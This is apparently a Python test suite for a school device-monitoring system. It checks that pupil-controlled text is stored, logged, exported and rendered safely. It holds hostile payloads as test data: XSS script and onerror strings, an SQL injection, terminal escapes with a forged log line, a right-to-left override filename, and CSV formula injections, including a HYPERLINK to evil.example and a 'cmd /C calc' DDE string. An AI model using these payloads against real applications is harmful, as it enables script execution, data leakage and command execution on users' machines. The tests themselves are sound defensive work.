"""Hostile text end to end: through a real gRPC stream into the real collector's SQLite store,
out through the CLI and the logs, and rendered by the console in real headless Chromium.

Also the agent side: text the OS hands the agent that cannot even be encoded (lone
surrogates from undecodable window titles or file names on a USB stick) must still become a
capture and must not stop monitoring.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import sync_playwright

from agent.config import Config
from agent.paths import DataDir
from agent.sources import MediaEvent, WindowInfo
from collector.validate import TRUNCATED
from tests.console.support import (
    CHROMIUM,
    CHROMIUM_ARGS,
    ConsoleServer,
    browser_login,
    connect,
    user,
)
from tests.support.agent import InProcessAgent, no_backends, spool_captures
from tests.support.agent_client import make_capture
from tests.support.collector import RunningCollector

from .helpers import client, enrolled, run_async

MB = 1024 * 1024
SCRIPT = '<script>window.__pwned=1;alert("xss")</script>'
IMG = '"><img src=x onerror="window.__pwned=2;alert(1)">'
SQL = "'); DROP TABLE captures;--"
CONTROL = "bell\x07 esc\x1b[2J\x1b]0;pwned\x07 nul\x00 cr\r lf\n tab\t del\x7f end"
RLO = "report\u202egpj.exe innocent"
PAYLOADS = {"script": SCRIPT, "img": IMG, "sql": SQL, "control": CONTROL, "rlo": RLO}


def _capture(name: str, text: str) -> object:
    return make_capture(rule_id=f"test.hostile_{name}", match=text[:150], context=text,
                        window_title=text, process=text[:100], os_user=f"pupil_{name}",
                        severity=3)


@pytest.fixture(scope="module")
def stored(collector: RunningCollector) -> dict[str, object]:
    """Send every payload (and 1 MB strings) through a real mTLS stream; return the captures."""
    async def send() -> dict[str, object]:
        a = await enrolled(collector, hostname=f"pc-hostile{IMG}")
        caps = {name: _capture(name, text) for name, text in PAYLOADS.items()}
        caps["huge"] = make_capture(rule_id="test.hostile_huge", match="m" * MB,
                                    context="c" * MB, window_title="t" * MB,
                                    os_user="u" * MB, process="p" * MB)
        async with a.connect() as s:
            await s.heartbeat(hostname=IMG + "h" * MB + "\x1b[2J", os_user=SQL)
            await s.send_captures(list(caps.values()))  # type: ignore[arg-type]
            await s.wait_for(lambda s: {c.id for c in caps.values()} <= s.acked)  # type: ignore[attr-defined]
        return caps
    return run_async(send())


def test_hostile_text_is_stored_verbatim_as_data_and_tables_survive(
        collector: RunningCollector, stored: dict[str, object]) -> None:
    for name, text in PAYLOADS.items():
        cap = stored[name]
        row = collector.query("SELECT match, context, window_title, os_user FROM captures "
                              "WHERE id = ?", (cap.id,))  # type: ignore[attr-defined]
        assert row == [(text[:150], text, text, f"pupil_{name}")], name
    tables = {r[0] for r in collector.query("SELECT name FROM sqlite_master WHERE type='table'")}
    assert {"captures", "queue_items", "devices", "audit"} <= tables
    assert collector.query("SELECT COUNT(*) FROM captures")[0][0] >= len(PAYLOADS) + 1
    assert collector.query("PRAGMA integrity_check") == [("ok",)]


def test_megabyte_strings_are_truncated_with_a_marker(
        collector: RunningCollector, stored: dict[str, object]) -> None:
    huge = stored["huge"]
    (match, ctx, title, os_user, process), = collector.query(
        "SELECT match, context, window_title, os_user, process FROM captures WHERE id = ?",
        (huge.id,))  # type: ignore[attr-defined]
    for field, value in (("match", match), ("context", ctx), ("window_title", title),
                         ("os_user", os_user), ("process", process)):
        assert value.endswith(TRUNCATED) and len(value) <= 600, (field, len(value))
    (hostname, last_user), = collector.query(
        "SELECT hostname, last_user FROM devices WHERE hostname LIKE '%hhhhhh%'")
    assert len(hostname) <= 300 and hostname.endswith(TRUNCATED) and hostname.startswith(IMG)
    assert last_user == SQL


def test_cli_and_logs_never_replay_control_characters(
        collector: RunningCollector, stored: dict[str, object]) -> None:
    """A device chooses its own hostname; a technician's terminal must not execute it."""
    async def enrol_evil() -> None:
        evil = client(collector, hostname="pc\x1b]0;owned\x07\nCRITICAL forged log line")
        await evil.enrol(collector.create_token())
        async with evil.connect() as s:
            await s.heartbeat(hostname="pc-evil\x1b[2J\x1b[H", os_user="x\ry")
            await s.wait_for(lambda s: s.configs)
    run_async(enrol_evil())
    out = collector.cli("devices").stdout
    assert "\x1b" not in out and "\x07" not in out, out[-300:]
    assert "\nCRITICAL forged" not in collector.log()
    assert "\x1b" not in collector.log()


# -- agent side: text that cannot be encoded -----------------------------------------------

async def test_undecodable_window_titles_and_file_names_still_become_captures(
        tmp_path: Path) -> None:
    """os.fsdecode turns undecodable bytes into lone surrogates, which protobuf refuses."""
    lib = tmp_path / "lib"
    lib.mkdir()
    (lib / "t.toml").write_text(
        'category = "circumvention"\n[[rule]]\nid = "t.exam"\nseverity = 3\n'
        'phrases = ["exam answers"]\nsources = ["media", "window"]\n')
    data = DataDir(tmp_path / "agent").ensure()
    config = Config(rules_library=str(lib), watch_keys=False)
    async with InProcessAgent(data, config, backends=no_backends()) as agent:
        mon = agent.runtime.monitor
        errors: list[str] = []
        for i, call in enumerate((
                lambda: mon.on_window(WindowInfo("exam answers \udcff\udcfe.doc", "xterm", 7)),
                lambda: mon.on_media(MediaEvent("file_written", "/media/usb",
                                                file_name="/media/usb/\udcffexam answers.txt")),
                lambda: mon.on_window(WindowInfo("exam answers plain", "xterm", 8)))):
            try:
                call()
            except Exception as exc:  # the sources call these from their threads
                errors.append(f"event {i}: {type(exc).__name__}: {exc}")
        if not errors:
            await agent.wait_for(lambda: len(spool_captures(data.root)) >= 3,
                                 what="three captures")
    assert not errors, errors
    caps = spool_captures(data.root)
    titles = sorted(c.window_title or c.media.file_name for c in caps)
    assert any("exam answers" in t and "\ufffd" in t for t in titles), titles


# -- console rendering in real Chromium --------------------------------------------------

@pytest.fixture
def browser() -> Iterator[object]:
    # function scope: sync Playwright keeps an event loop running in this thread while it
    # is open, which would stop the asyncio tests that follow
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield b
        finally:
            b.close()


_RLO_CHECK = """() => {
  const out = [];
  let seen = 0;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const n = walker.currentNode;
    if (!n.nodeValue.includes('\\u202e')) continue;
    seen += 1;
    const el = n.parentElement;
    const bidi = getComputedStyle(el).unicodeBidi;
    if (!['isolate', 'plaintext', 'isolate-override'].includes(bidi) && el.tagName !== 'BDI')
      out.push(el.tagName + ':' + bidi);
  }
  return {seen: seen, bad: out};
}"""


@pytest.mark.browser
def test_console_renders_hostile_captures_inert_in_chromium(
        collector: RunningCollector, stored: dict[str, object], browser: object,
        tmp_path: Path) -> None:
    with connect(collector.db_path) as conn:
        user(conn, "dslhostile", "dsl", ["default"])
        user(conn, "techhostile", "technician", ["default"])
    items = {name: collector.query("SELECT queue_item_id FROM captures WHERE id = ?",
                                   (stored[name].id,))[0][0]  # type: ignore[attr-defined]
             for name in [*PAYLOADS, "huge"]}
    with ConsoleServer(collector.db_path, tmp_path) as srv:
        ctx, page = browser_login(browser, srv.url, "dslhostile")
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        try:
            pages = [f"{srv.url}/queue", f"{srv.url}/exports/incident-log.html",
                     f"{srv.url}/reports/weekly"] + [f"{srv.url}/captures/{q}"
                                                     for q in items.values()]
            for url in pages:
                page.goto(url)
                page.wait_for_load_state("load")
                assert page.evaluate("() => window.__pwned === undefined"), url
                assert page.evaluate("() => document.querySelectorAll('img[src=\"x\"]').length"
                                     ) == 0, url
            assert dialogs == []
            page.goto(f"{srv.url}/captures/{items['script']}")
            assert SCRIPT in page.inner_text("body")  # shown as text, not run
            page.goto(f"{srv.url}/captures/{items['img']}")
            assert IMG in page.inner_text("body")
            page.goto(f"{srv.url}/captures/{items['sql']}")
            assert SQL in page.inner_text("body")
            page.goto(f"{srv.url}/captures/{items['huge']}")
            assert TRUNCATED in page.inner_text("body")
            page.goto(f"{srv.url}/captures/{items['rlo']}")
            body = page.inner_text("body")
            assert "gpj.exe" in body or "\u202e" not in body
            # the override must be isolated to its own field (or made visible), so it cannot
            # reverse the text around it on the DSL's screen
            check = page.evaluate(_RLO_CHECK)
            # made visible: the console shows every bidi control as a mark such as ⟨RLO⟩
            assert check["bad"] == [] and (check["seen"] >= 1 or "\u27e8RLO\u27e9" in body), \
                check
            page.goto(f"{srv.url}/queue")
            check = page.evaluate(_RLO_CHECK)
            assert check["bad"] == [], check
        finally:
            ctx.close()
        # the technician's device list shows device-chosen host names
        ctx, page = browser_login(browser, srv.url, "techhostile")
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        try:
            page.goto(f"{srv.url}/devices")
            page.wait_for_load_state("load")
            assert IMG in page.inner_text("body")  # the host name, shown as text
            assert page.evaluate("() => window.__pwned === undefined")
            assert dialogs == []
        finally:
            ctx.close()


@pytest.mark.mount
@pytest.mark.skipif(os.geteuid() != 0, reason="mounting tmpfs needs root")
async def test_usb_file_with_undecodable_name_does_not_blind_the_media_watch(
        tmp_path: Path) -> None:
    """A real tmpfs 'stick' under a media root; a pupil writes a file whose name is not UTF-8,
    then an ordinary one. Both writes must be seen (the second proves monitoring survived)."""
    from agent.platform import Backends
    from agent.sources.media_linux import LinuxMediaSource

    lib = tmp_path / "lib"
    lib.mkdir()
    (lib / "t.toml").write_text(
        'category = "circumvention"\n[[rule]]\nid = "t.exam"\nseverity = 3\n'
        'phrases = ["exam answers"]\nsources = ["media"]\n'
        '[[rule]]\nid = "t.usb"\nseverity = 1\nphrases = []\nsources = ["media"]\n'
        'on_mount = true\n')
    root = tmp_path / "media"
    stick = root / "usb1"
    stick.mkdir(parents=True)
    data = DataDir(tmp_path / "agent").ensure()
    config = Config(rules_library=str(lib), watch_keys=False, watch_window=False)
    backends = Backends("test", None, None, LinuxMediaSource(roots=(str(root),)))
    async with InProcessAgent(data, config, backends=backends) as agent:
        try:
            # the source snapshots the mount table when it starts; a mount made before that
            # counts as pre-existing, so remount until the agent reports it (no blind sleep)
            for _attempt in range(10):
                subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(stick)],
                               check=True)
                try:
                    await agent.wait_for(lambda: any(c.rule_id == "t.usb"
                                                     and c.media.event == "mounted"
                                                     for c in spool_captures(data.root)),
                                         timeout=3, what="the mount event")
                    break
                except TimeoutError:
                    subprocess.run(["umount", str(stick)], check=True)
            with open(os.path.join(os.fsencode(stick), b"\xff\xfeexam answers.txt"),
                      "wb") as fh:
                fh.write(b"x")
            (stick / "exam answers 2.txt").write_text("y")
            caps = await agent.wait_for(
                lambda: [c for c in spool_captures(data.root) if c.rule_id == "t.exam"]
                if len([c for c in spool_captures(data.root) if c.rule_id == "t.exam"]) >= 2
                else None, timeout=20, what="captures for both written files")
        finally:
            subprocess.run(["umount", "-l", str(stick)], check=False)
    names = sorted(c.media.file_name for c in caps)
    assert "exam answers 2.txt" in names and any("\ufffd" in n for n in names), names



FORMULAS = ['=HYPERLINK("http://evil.example/?leak","open me")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def test_exports_neutralise_spreadsheet_formulas(collector: RunningCollector) -> None:
    """A window title a pupil controls ends up in the DSL's CSV export, opened in Excel."""
    import csv
    import io

    from starlette.testclient import TestClient

    from collector.console import create_app
    from tests.console.conftest import login

    async def send() -> None:
        a = await enrolled(collector, hostname="=cmd|' /C calc'!A0")
        caps = [make_capture(rule_id=f"test.formula{i}", match=f[:100], context=f,
                             window_title=f, process=f, os_user=f"=pupil{i}")
                for i, f in enumerate(FORMULAS)]
        async with a.connect() as s:
            await s.send_captures(caps)
            await s.wait_for(lambda s: {c.id for c in caps} <= s.acked)
    run_async(send())
    with connect(collector.db_path) as conn:
        user(conn, "dslcsv", "dsl", ["default"])
    app = create_app(collector.db_path, collector.data_dir, public_url="https://testserver",
                     allowed_hosts=["testserver"])
    with TestClient(app, base_url="https://testserver") as tc:
        assert login(tc, "dslcsv").status_code == 303
        for url in ("/exports/incident-log.csv", "/exports/cpoms.csv"):
            r = tc.get(url)
            assert r.status_code == 200, url
            cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
            assert any("HYPERLINK" in cell or "pupil" in cell for cell in cells), url
            bad = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
            assert bad == [], (url, bad[:5])


@pytest.mark.mount
@pytest.mark.skipif(os.geteuid() != 0, reason="mounting tmpfs needs root")
async def test_stick_with_undecodable_mount_point_name_is_reported_and_watch_survives(
        tmp_path: Path) -> None:
    """A USB stick whose label is not UTF-8 is mounted at /media/<user>/<label bytes>: the
    mount table then holds bytes that are not UTF-8. The agent must report it (with a
    replacement character) and keep watching: a second, ordinary stick is reported too."""
    from agent.platform import Backends
    from agent.sources.media_linux import LinuxMediaSource

    lib = tmp_path / "lib"
    lib.mkdir()
    (lib / "t.toml").write_text(
        'category = "circumvention"\n[[rule]]\nid = "t.usb"\nseverity = 1\nphrases = []\n'
        'sources = ["media"]\non_mount = true\n')
    root = tmp_path / "media"
    root.mkdir()
    bad = os.path.join(os.fsencode(root), b"\xff\xfeSTICK")
    good = root / "plain-stick"
    os.mkdir(bad)
    good.mkdir()
    data = DataDir(tmp_path / "agent").ensure()
    config = Config(rules_library=str(lib), watch_keys=False, watch_window=False)
    backends = Backends("test", None, None, LinuxMediaSource(roots=(str(root),)))

    def mounted(name: str) -> bool:
        return any(c.media.event == "mounted" and name in c.media.mount_point
                   for c in spool_captures(data.root))

    async with InProcessAgent(data, config, backends=backends) as agent:
        try:
            for target, name in ((bad, "STICK"), (os.fsencode(good), "plain-stick")):
                for _attempt in range(10):  # remount until seen (see the test above)
                    subprocess.run([b"mount", b"-t", b"tmpfs", b"-o", b"size=1m", b"tmpfs",
                                    target], check=True)
                    try:
                        await agent.wait_for(lambda n=name: mounted(n), timeout=3,  # type: ignore[misc]
                                             what=f"the {name} mount")
                        break
                    except TimeoutError:
                        subprocess.run([b"umount", target], check=True)
                assert mounted(name), f"{name} was never reported"
        finally:
            for target in (bad, os.fsencode(good)):
                subprocess.run([b"umount", b"-l", target], check=False,
                               capture_output=True)
    points = [c.media.mount_point for c in spool_captures(data.root)
              if c.media.event == "mounted"]
    assert any("\ufffd" in p and "STICK" in p for p in points), points
